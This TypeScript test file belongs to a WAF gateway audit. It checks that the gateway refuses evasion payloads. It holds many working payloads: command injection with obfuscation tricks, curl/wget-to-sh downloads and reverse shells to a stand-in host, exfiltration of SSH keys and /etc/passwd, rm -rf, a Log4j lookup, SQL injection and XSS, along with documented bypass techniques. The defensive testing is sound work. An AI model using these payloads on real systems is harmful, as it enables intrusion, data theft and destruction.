// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Audit 13 (round 6 of the WAF evasion audit): the relaxations of the last two API-profile commits (session 9,
 * held-out corpora 18–21 and the fixes of audit 12), against the `waf` policy (CRS v4.28.0 from ../shared, PL1,
 * blocking) through the real gateway in front of a recording upstream, over HTTP/1.1 and HTTP/2. Targets: one-name
 * placeholders and AWS policy variables (`${id}`, `${aws:username}`, family `v`), template control tags (family
 * `i`), audio/video/source players in rich text, arrows in prose, short path globs in a query string (family `g`),
 * comparisons in prose that starts with two plain words and `word (` parentheses (proseQuotesInert, family `q`),
 * bare document file names (family `c`), one-line SQL in `*_sql` fields, a lone search qualifier, LaTeX formulas
 * opening with `$(\macro` or `$(x`, OS files after a separated file command (family `l`). Every technique here is
 * one the gateway stops: the request is refused with 403 and the upstream never sees it. The techniques that got
 * through are in the audit's report, not here. The `/crs/*` (PL1) and `/crs2/*` (PL2) routes run the plain CRS
 * profile: the control there shows CRS refuses the payloads this audit built its evasions from.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = '/work/shared/crs/v4.28.0';
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length for a body, close). */
function req(method: string, target: string, headers: [string, string][], body = ''): Buffer {
  const b = Buffer.from(body, 'utf8');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const JSON_CT: [string, string][] = [['Content-Type', 'application/json']];
/** A JSON document posted to `path` (the API-profile route by default). */
const doc = (value: unknown, path = '/x'): Buffer => req('POST', path, JSON_CT, J(value));
/** A JSON body `{ [field]: value }` posted to the API-profile route. */
const json = (field: string, value: string): Buffer => doc({ [field]: value });
const get = (target: string): Buffer => req('GET', target, []);

interface Case {
  readonly name: string;
  readonly build: () => Buffer;
}

/** Evasions the gateway refuses (API profile, route `/*`). */
const CASES: readonly Case[] = [
  // Placeholders (family v): `${IFS}` is in CRS' Unix shell list (932160), which family v does not waive.
  { name: 'placeholder: ;cat${IFS}/etc/passwd', build: () => json('host', '127.0.0.1;cat${IFS}/etc/passwd') },
  { name: 'placeholder: ;id${IFS}-a', build: () => json('host', '127.0.0.1;id${IFS}-a') },
  {
    name: 'placeholder: ;curl${IFS}…|sh',
    build: () => json('host', '127.0.0.1;curl${IFS}evil.example/s|sh'),
  },
  {
    name: 'placeholder: |wget${IFS}-qO-${IFS}…|sh',
    build: () => json('host', '127.0.0.1|wget${IFS}-qO-${IFS}evil.example/s|sh'),
  },
  {
    name: 'placeholder: ;${SHELL}${IFS}-c${IFS}id',
    build: () => json('host', '127.0.0.1;${SHELL}${IFS}-c${IFS}id'),
  },
  {
    name: 'placeholder: nc${IFS}… -e${IFS}sh',
    build: () => json('host', 'x;nc${IFS}203.0.113.5${IFS}9001${IFS}-e${IFS}sh'),
  },
  {
    name: 'placeholder: a real placeholder then ; wget${IFS}…',
    build: () => json('memo', 'Auto-categorized (rule #${id}); wget${IFS}evil.example/x'),
  },
  { name: 'placeholder: ;sleep${IFS}10', build: () => json('name', 'x;sleep${IFS}10') },
  { name: 'placeholder: &&whoami${IFS}', build: () => json('name', 'x&&whoami${IFS}') },
  { name: 'placeholder: a line break then id${IFS}', build: () => json('name', 'x\nid${IFS}') },
  {
    name: 'placeholder: prose; curl${IFS}…|sh',
    build: () => json('name', 'Hello please run this; curl${IFS}evil.example/s|sh thanks'),
  },
  // Empty placeholders inside command words (`c${u}url`): refused when another rule sees the rest.
  {
    name: 'empty placeholder in a word: n${u}c -e /bin/sh (932160 on /bin/sh)',
    build: () => json('host', '127.0.0.1;n${u}c -e /bin/sh 203.0.113.5 9001'),
  },
  {
    name: 'empty placeholder in a word: c${u}url -d@${HOME}/.ssh/id_rsa (930120)',
    build: () => json('host', '127.0.0.1|c${u}url -d@${HOME}/.ssh/id_rsa evil.example'),
  },
  {
    name: 'empty placeholder: r${u}m -rf ${HOME}',
    build: () => json('host', '127.0.0.1;r${u}m -rf ${HOME}'),
  },
  { name: 'empty placeholder: rm -rf ~${u}/ (932125)', build: () => json('host', '127.0.0.1;rm -rf ~${u}/') },
  {
    name: 'empty placeholder: p${u}ython3 -c os.system (933160)',
    build: () => json('host', `127.0.0.1;p\${u}ython3 -c 'import os;os.system("id")'`),
  },
  {
    name: 'empty placeholder in a word, query string',
    build: () => get(`/api/diag/ping?host=${E('127.0.0.1;c${u}url -s evil.example/s.sh|s${u}h')}`),
  },
  {
    name: 'placeholder: EL implicit object and Log4j lookup beside a plain one',
    build: () => json('memo', 'Auto-categorized (rule #${sessionScope}) for ${jndi:ldap://203.0.113.5/a}'),
  },
  // LaTeX formulas opening with `$(\macro` or `$(x` (family m).
  { name: 'LaTeX: $(\\alpha||curl …|sh)$', build: () => json('note', '$(\\alpha||curl evil.example/x|sh)$') },
  { name: 'LaTeX: $(a||id)$', build: () => json('note', '$(a||id)$') },
  { name: 'LaTeX: $(w&id)$', build: () => json('note', '$(w&id)$') },
  { name: 'LaTeX: $(\\sum||sleep 10)$', build: () => json('note', '$(\\sum||sleep 10)$') },
  { name: 'LaTeX: $(x||nslookup …)$', build: () => json('note', '$(x||nslookup evil.example)$') },
  {
    name: 'LaTeX in prose: $(a|| wget … | sh)$',
    build: () => json('note', 'Formula $(a|| wget -q evil.example/x -O- | sh)$ here'),
  },
  {
    name: 'LaTeX in prose: $(\\alpha||i\\d)$ (90111)',
    build: () => json('note', 'Note that the bound $(\\alpha||i\\d)$ holds for all of the inputs here'),
  },
  {
    name: "LaTeX in prose: $(n||un'a'me)$",
    build: () => json('note', "Note that the bound $(n||un'a'me)$ holds for all of the inputs here"),
  },
  {
    name: "LaTeX in prose: $(n||who'a'mi)$",
    build: () => json('note', "Note that the bound $(n||who'a'mi)$ holds for all of the inputs here"),
  },
  {
    name: "LaTeX in prose: $(x||\\c\\u\\r\\l …|s'h')$",
    build: () =>
      json(
        'note',
        "Note that the bound $(x||\\c\\u\\r\\l -s evil.example/s|s'h')$ holds for all of the inputs here",
      ),
  },
  {
    name: "LaTeX in prose: $(\\alpha||w'g'et -O /tmp/x …)$ (930120)",
    build: () =>
      json(
        'note',
        "Note that the bound $(\\alpha||w'g'et -q -O /tmp/x evil.example/s.sh)$ holds for all of the inputs here",
      ),
  },
  {
    name: 'LaTeX in prose: $(n||cu\\rl …|s\\h)$ without spaces around the pipe',
    build: () =>
      json('comment', 'Great product overall, I rate it $(n||cu\\rl -s evil.example/s|s\\h)$ stars'),
  },
  // Comparisons in prose after two plain words; `word (` in prose (family q).
  { name: 'two words: price div 1 or 1 = 1 (libinjection)', build: () => json('id', 'price div 1 or 1 = 1') },
  {
    name: 'two words: nested ascii (substr (user (), 1, 1))',
    build: () => json('id', 'price div 1 or ascii (substr (user (), 1, 1)) > 100'),
  },
  {
    name: 'two words: benchmark (9000000, sha1 (1))',
    build: () => json('id', 'price div 1 or benchmark (9000000, sha1 (1))'),
  },
  { name: 'two words: sleep (5)', build: () => json('id', 'price div 1 or sleep (5)') },
  {
    name: 'two words: load_file (0x…) > 0',
    build: () => json('id', 'price div 1 or load_file (0x2f6574632f706173737764) > 0'),
  },
  {
    name: 'two words: sleep (price), query string',
    build: () => get(`/p?id=${E('price div 1 or sleep (price)')}`),
  },
  // Short path globs in a query (family g).
  { name: 'short glob: id=1/*', build: () => get('/s?id=1%2F*') },
  { name: 'short glob: x/* or 1', build: () => get('/s?id=x%2F*%20or%201') },
  { name: 'short glob: a/* or 1=1', build: () => get('/bms/api/v3/points?name=a%2F*%20or%201%3D1') },
  // A lone search qualifier (family q).
  {
    name: 'lone search qualifier: a phrase holding UNION SELECT … FROM',
    build: () => json('q', 'title:"union select password from users"'),
  },
  {
    name: 'search qualifier: /**/union/**/select/**/…/**/from',
    build: () => json('q', 'id:-1/**/union/**/select/**/password/**/from/**/users'),
  },
  // Media players (audio/video/source) in sanitized HTML.
  {
    name: 'audio: onerror handler',
    build: () => json('html', '<p>Listen</p><audio src="x" controls onerror="alert(1)"></audio>'),
  },
  {
    name: 'video: javascript: poster',
    build: () =>
      json(
        'html',
        '<p>Listen</p><video controls poster="javascript:alert(1)" src="https://cdn.example/a.mp4"></video>',
      ),
  },
  {
    name: 'source: onerror handler',
    build: () => json('html', '<p>Listen</p><video controls><source src="x" onerror="alert(1)"></video>'),
  },
  {
    name: 'audio: fallback content holding <img onerror>',
    build: () =>
      json(
        'html',
        '<p>Listen</p><audio controls src="https://cdn.example/a.mp3"><img src=x onerror=alert(1)></audio>',
      ),
  },
  {
    name: 'audio: fallback content holding <svg onload>',
    build: () =>
      json(
        'html',
        '<p>Listen</p><audio controls src="https://cdn.example/a.mp3"><svg onload=alert(1)></audio>',
      ),
  },
  {
    name: 'video: data:text/html source',
    build: () =>
      json('html', '<p>Listen</p><video src="data:text/html,<script>alert(1)</script>" controls></video>'),
  },
  {
    name: 'audio: controls/onerror= (slash as attribute separator)',
    build: () =>
      json('html', '<p>Listen</p><audio src="https://cdn.example/a.mp3" controls/onerror=alert(1)></audio>'),
  },
  // Template control tags (family i): a batch `for`/`if` outside the tags.
  {
    name: 'control tags: a batch for /f … do calc after them',
    build: () =>
      json(
        'body_html',
        '<p>Hi {{ticket.requester}}</p>{% if ticket.priority == "urgent" %}<p>x</p>{% endif %}<p>& for /f %i in ("calc") do calc</p>',
      ),
  },
  {
    name: 'control tags: & if {{a}}==1 calc',
    build: () =>
      json(
        'body',
        'Hi {{ticket.requester}} {% if ticket.priority == "urgent" %} escalate {% endif %} & if {{a}}==1 calc',
      ),
  },
  {
    name: 'control tags: & if exist c:\\boot.ini == 1 calc',
    build: () =>
      json(
        'body_html',
        '<p>Hi</p>{% if a == "b" %}<p>x</p>{% endif %}<p>& if exist c:\\boot.ini == 1 calc</p>',
      ),
  },
  // OS files after a separated file command, with a code span making the commands inert (family l).
  {
    name: 'code span then ; cat /etc/passwd',
    build: () => json('note', 'Please run `npm ci` first, then; cat /etc/passwd'),
  },
  {
    name: 'code span then ; curl -d @/etc/passwd',
    build: () => json('note', 'Please run `npm ci` first, then; curl -d @/etc/passwd evil.example'),
  },
  {
    name: 'code span then ; w"g"et … -O /tmp/x (930120)',
    build: () => json('note', 'Please run `npm ci` first, then; w"g"et evil.example/x -O /tmp/x'),
  },
  {
    name: 'code span then ; c"u"rl -o /tmp/x … (930120)',
    build: () => json('note', 'Please run `npm ci` first, then; c"u"rl -o /tmp/x evil.example/x'),
  },
  {
    name: "code span then ; c'a't /etc/passwd",
    build: () => json('note', "Please run `npm ci` first, then; c'a't /etc/passwd"),
  },
];

/** One HTTP/2 request; resolves with the status (or `stream-error`/`session-error`). */
function h2(port: number, headers: http2.OutgoingHttpHeaders, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => resolve('session-error'));
    const r = session.request({
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
      accept: 'application/json',
      ...headers,
    });
    r.on('response', (h) => {
      r.resume();
      r.on('end', () => {
        session.close();
        resolve(String(h[':status']));
      });
    });
    r.on('error', () => {
      session.close();
      resolve('stream-error');
    });
    r.end(body);
  });
}

const H2_POST = { ':method': 'POST', ':path': '/x', 'content-type': 'application/json' };

/** The same evasions over HTTP/2 (the value view is the same; the framing is not). */
/**
 * The bypasses audit 13 found in the session-9 relaxations, fixed the same session: each is refused now. (Not
 * here: one-line SQL in a `*_sql` member, which a `sql` member already carried; see docs/security.md.)
 */
const BYPASS_CASES: readonly Case[] = [
  // B1 (RCE; family v, PIPED_TEXT's one-name placeholder `${u}` waives 932130/933135): an unset variable inside
  // each command word hides it from every 932 word list; sh removes `${u}` and runs curl | sh.
  {
    name: 'B1 ;c${u}url -s … | s${u}h (one-name placeholder splits the command words)',
    build: () => json('host', '127.0.0.1;c${u}url -s evil.example/s.sh|s${u}h'),
  },
  {
    name: 'B1b reverse shell s${u}h -i >& /d${u}ev/tcp/…',
    build: () => json('host', '127.0.0.1;s${u}h -i >& /d${u}ev/tcp/203.0.113.5/9001 0>&1'),
  },
  {
    name: 'B1c n${u}c … -e s${u}h',
    build: () => json('host', '127.0.0.1 && n${u}c 203.0.113.5 9001 -e s${u}h'),
  },
  {
    name: 'B1d c${u}at /e${u}tc/sh${u}adow',
    build: () => json('host', '127.0.0.1;c${u}at /e${u}tc/sh${u}adow'),
  },
  { name: 'B1e ;i${u}d', build: () => json('host', '127.0.0.1;i${u}d') },
  { name: 'B1f && sl${u}eep 10', build: () => json('host', '127.0.0.1 && sl${u}eep 10') },
  {
    name: 'B1g form body',
    build: () =>
      req(
        'POST',
        '/x',
        [['Content-Type', 'application/x-www-form-urlencoded']],
        `host=${E('127.0.0.1;c${u}url -s evil.example/s.sh|s${u}h')}`,
      ),
  },
  {
    name: 'B1h nested JSON array',
    build: () => doc({ a: { b: ['127.0.0.1;c${u}url -s evil.example/s.sh|s${u}h'] } }),
  },
  {
    name: 'B1i prose with a code span, then ; c${u}url … | s${u}h',
    build: () => json('note', 'Please run `npm ci` first and then; c${u}url evil.example/s | s${u}h'),
  },
  // B2 (RCE; family m, MATH_PARENTHESIS lets `$(` open with one letter): `$(n|| …)$` in a sentence is a LaTeX
  // formula to the profile and a command substitution to sh (n: not found, then || runs the rest).
  {
    name: 'B2 $(n|| cu\\rl -s … |b\\ash)$ in a review',
    build: () =>
      json('comment', 'Great product overall $(n|| cu\\rl -s evil.example/s |b\\ash)$ would buy again'),
  },
  {
    name: 'B2b $(n||n\\c … -e s\\h)$ in a review',
    build: () =>
      json('comment', 'Great product overall $(n||n\\c 203.0.113.5 9001 -e s\\h)$ would buy again'),
  },
  {
    name: "B2c $(\\alpha||w'g'et …)$ in prose",
    build: () =>
      json('note', "Note that the bound $(\\alpha||w'g'et evil.example/x)$ holds for all of the inputs here"),
  },
  {
    name: "B2d $(n||sl'e'ep 10)$ in prose",
    build: () => json('note', "Note that the bound $(n||sl'e'ep 10)$ holds for all of the inputs here"),
  },
  // B3 (SQLi; proseQuotesInert: SQL_NON_QUOTE_SYNTAX_AFTER_WORDS after two plain words, and `word (` read as
  // prose): a numeric context (`WHERE owner_id = 5 AND id = <v>`) in MySQL/MariaDB. libinjection (942100) waived.
  { name: 'B3 price xor true or 2 > 1 (tautology)', build: () => json('id', 'price xor true or 2 > 1') },
  {
    name: 'B3b price div 1 or length (password) > 5 (boolean blind)',
    build: () => json('id', 'price div 1 or length (password) > 5'),
  },
  {
    name: 'B3c price div 1 or ascii (password) > 100 (boolean blind)',
    build: () => json('id', 'price div 1 or ascii (password) > 100'),
  },
  {
    name: 'B3d price div 1 or sleep (price) (time based)',
    build: () => json('id', 'price div 1 or sleep (price)'),
  },
  { name: 'B3e price div 1 or sleep (1.5e0)', build: () => json('id', 'price div 1 or sleep (1.5e0)') },
  { name: 'B3f benchmark (9000000, 1)', build: () => json('id', 'price div 1 or benchmark (9000000, 1)') },
  { name: 'B3g query string: price div 1 or 1=1', build: () => get(`/p?id=${E('price div 1 or 1=1')}`) },
  {
    name: 'B3h query string: price xor true or 2 > 1',
    build: () => get(`/p?id=${E('price xor true or 2 > 1')}`),
  },
  {
    name: 'B3i query string: price div 1 or length (password) > 5',
    build: () => get(`/p?id=${E('price div 1 or length (password) > 5')}`),
  },
  // B4 (SQLi; queryWaivers: a value under 12 characters that is a path glob gets family g, 942100 waived): an
  // unterminated `/*` comments out the rest of the statement in MySQL/MariaDB and SQLite (the tenant check).
  { name: 'B4 ?id=id/* (comments out AND owner_id = …)', build: () => get('/api/docs?id=id%2F*') },
  { name: 'B4b ?id=id/* unencoded', build: () => get('/api/docs?id=id/*') },
  { name: 'B4c ?owner=owner/*', build: () => get('/api/docs?owner=owner%2F*') },
  // B5 (low; codeField: a one-line statement in any `*_sql` member is a program, no rule applies): SQL and markup
  // a `query_sql` carries are not inspected (CRS PL1 refuses both).
  {
    name: 'B5 query_sql: one line with a <script> literal',
    build: () => json('query_sql', "select '<script>alert(document.cookie)</script>'"),
  },
  {
    name: 'B5b query_sql: stacked DROP TABLE',
    build: () => json('query_sql', 'select 1; drop table users'),
  },
];

const BYPASS_H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  {
    name: 'B1 over h2',
    headers: H2_POST,
    body: J({ host: '127.0.0.1;c${u}url -s evil.example/s.sh|s${u}h' }),
  },
  {
    name: 'B2 over h2',
    headers: H2_POST,
    body: J({ comment: 'Great product overall $(n|| cu\\rl -s evil.example/s |b\\ash)$ would buy again' }),
  },
  { name: 'B3 over h2', headers: H2_POST, body: J({ id: 'price div 1 or length (password) > 5' }) },
  { name: 'B4 over h2', headers: { ':method': 'GET', ':path': '/api/docs?id=id%2F*' } },
];

const H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  {
    name: 'placeholder: ;curl${IFS}…|sh',
    headers: H2_POST,
    body: J({ host: '127.0.0.1;curl${IFS}evil.example/s|sh' }),
  },
  { name: 'LaTeX: $(a||id)$', headers: H2_POST, body: J({ note: '$(a||id)$' }) },
  {
    name: 'two words: price div 1 or sleep (5)',
    headers: H2_POST,
    body: J({ id: 'price div 1 or sleep (5)' }),
  },
  { name: 'short glob: id=1/*, query string', headers: { ':method': 'GET', ':path': '/s?id=1%2F*' } },
  {
    name: 'audio: onerror handler',
    headers: H2_POST,
    body: J({ html: '<p>Listen</p><audio src="x" controls onerror="alert(1)"></audio>' }),
  },
];

// The payloads behind this audit's evasions, sent to the plain CRS profile (PL1 `/crs/*`, PL2 `/crs2/*`).
const CRS_REFUSES: readonly [path: string, value: unknown][] = [
  ['/crs/x', { host: '127.0.0.1;c${u}url -s evil.example/s.sh|s${u}h' }],
  ['/crs/x', { comment: 'Great product overall $(n|| cu\\rl -s evil.example/s |b\\ash)$ would buy again' }],
  ['/crs/x', { id: 'price xor true or 2 > 1' }],
  ['/crs/x', { id: 'price div 1 or sleep (price)' }],
  ['/crs2/x', { id: 'price div 1 or length (password) > 5' }],
];

describe(
  'audit13: WAF evasions of the latest session-9 API-profile relaxations the gateway stops',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      const dir = mkdtempSync(join(tmpdir(), 'gatehouse-audit13-'));
      execFileSync(
        'openssl',
        [
          'req',
          '-x509',
          '-newkey',
          'ec',
          '-pkeyopt',
          'ec_paramgen_curve:prime256v1',
          '-nodes',
          '-keyout',
          'k.pem',
          '-out',
          'c.pem',
          '-days',
          '1',
          '-subj',
          '/CN=localhost',
        ],
        { cwd: dir, stdio: 'ignore', timeout: 20_000 },
      );
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners:
  - { name: main, host: 127.0.0.1, port: 0 }
  - name: h2
    host: 127.0.0.1
    port: 0
    tls:
      http2: true
      certificates:
        - { cert: "${join(dir, 'c.pem')}", key: "${join(dir, 'k.pem')}" }
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: crs2
    paths: ["/crs2/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs, paranoia_level: 2 }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 3000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these relaxations reach the upstream', async () => {
      for (const payload of [
        json('memo', 'Auto-categorized (rule #${id})'),
        doc({ Condition: { StringNotEquals: { 'aws:PrincipalTag/team': '${aws:username}' } } }),
        json(
          'explanation_html',
          '<p>Listen:</p><p><audio src="https://cdn.learn.example/a/4e.mp3" controls></audio></p>',
        ),
        json(
          'body_html',
          '<p>Hi {{ticket.requester.first_name}},</p>{% if ticket.priority == "urgent" %}<p>We have escalated this.</p>{% endif %}',
        ),
        json('plain_text', 'Titrate insulin glargine 18 -> 22 units tonight; follow up in two weeks.'),
        get('/bms/api/v3/points?name=DUB-02%2FAHU-1%2F*&limit=200'),
        json('note', 'The estimate $(\\alpha - 1)/\\alpha$ holds for all of the inputs here'),
        json('title', 'docker-compose.yml'),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    test('control: plain CRS (PL1 /crs/*, PL2 /crs2/*) refuses the payloads behind these evasions', async () => {
      for (const [path, value] of CRS_REFUSES) {
        const r = await send(doc(value, path));
        assert.equal(r.statuses.at(-1), 403, `${path} ${J(value)}`);
        assert.equal(r.reached.length, 0, `${path} ${J(value)}`);
      }
      const r = await send(get('/crs/api/docs?id=id%2F*'));
      assert.equal(r.statuses.at(-1), 403);
      assert.equal(r.reached.length, 0);
    });

    for (const c of [...CASES, ...BYPASS_CASES]) {
      test(`refused: ${c.name}`, async () => {
        const r = await send(c.build());
        assert.equal(r.statuses.at(-1), 403, r.out.slice(0, 400));
        assert.deepEqual(
          r.reached.map((q) => `${q.method} ${q.url}`),
          [],
          'the upstream saw the request',
        );
      });
    }

    test('control over h2: a benign POST reaches the upstream', async () => {
      const n = up.requests.length;
      assert.equal(
        await h2(gw.ports.h2 as number, H2_POST, J({ memo: 'Auto-categorized (rule #${id})' })),
        '200',
      );
      assert.equal(up.requests.length, n + 1);
    });

    for (const c of [...H2_CASES, ...BYPASS_H2_CASES]) {
      test(`refused over h2: ${c.name}`, async () => {
        const n = up.requests.length;
        assert.equal(await h2(gw.ports.h2 as number, c.headers, c.body), '403');
        assert.equal(up.requests.length, n, 'the upstream saw the request');
      });
    }
  },
);
